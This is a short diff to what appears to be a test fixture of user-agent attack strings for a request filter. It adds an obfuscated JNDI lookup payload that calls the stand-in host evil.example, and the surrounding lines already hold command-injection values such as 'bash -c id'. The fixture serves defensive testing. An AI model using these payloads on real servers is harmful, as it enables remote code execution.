@@ -277,6 +277,7 @@ const USER_AGENT_ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['rce-ua-command', 'bash -c id'],
   ['rce-lone-command', 'whoami'],
   ['rce-command-chain-ua', 'Mozilla/5.0 | id'],
+  ['java-jndi-lookup', '&#x24;&#0000000000000000000000123;jndi:ldap://evil.example/a}'], // zero-padded character references
 ];
 
 const BENIGN: readonly string[] = [
